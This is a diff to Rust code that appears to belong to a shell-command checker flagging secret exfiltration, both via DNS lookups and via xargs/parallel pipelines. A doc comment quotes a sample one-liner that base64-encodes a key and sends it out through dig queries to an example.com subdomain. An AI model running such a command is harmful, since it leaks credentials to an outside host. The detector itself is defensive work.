@@ -3,7 +3,7 @@
 
 use shell::{Arg, Atom, mark};
 
-use super::checks::{DIGESTS, commits_secret, is_remote, payload_of, tells_secret};
+use super::checks::{DIGESTS, commits_secret, is_counted, is_remote, payload_of, tells_secret};
 use super::takers::encloses;
 use crate::builtin::has;
 use crate::command::Command;
@@ -20,10 +20,7 @@ const ASK_FOR_NAMES: &str = "\
 /// Whether it asks for names that only run time tells, while the same text reads secrets: `for c in $(base64 key); do dig
 /// "$c.example.com"; done`.
 pub(super) fn asks_for_names(command: &Command<'_>) -> bool {
-    let is_read = |atom: &Atom| {
-        let all = !matches!(&*atom.program(), "set" | "export" | "declare" | "history");
-        all && !has(DIGESTS, &atom.program()) && tells_secret(command, atom)
-    };
+    let is_read = |atom: &Atom| !has(DIGESTS, &atom.program()) && tells_secret(command, atom);
     command.is_in(ASK_FOR_NAMES) && command.analysis.atoms.iter().any(is_read)
 }
 
@@ -31,10 +28,11 @@ pub(super) fn asks_for_names(command: &Command<'_>) -> bool {
 pub(super) fn is_fed_by_list(command: &Command<'_>) -> bool {
     let atoms = &command.analysis.atoms;
     let Some(lister) = command.atom.via.and_then(|via| atoms.get(via.parent as usize)) else { return false };
-    let before = |atom: &&Atom| atom.same_pipeline(lister) && atom.stage.index < lister.stage.index;
     has("xargs parallel", &lister.program())
-        && atoms.iter().filter(before).any(|atom| tells_secret(command, atom))
-        && !atoms.iter().filter(before).any(|atom| has(DIGESTS, &atom.program()))
+        && command
+            .analysis
+            .feeders(lister)
+            .any(|atom| tells_secret(command, atom) && !is_counted(command, atom))
 }
 
 /// Whether git takes a secret to another machine: in an address, or in a commit for a remote of the text's own.
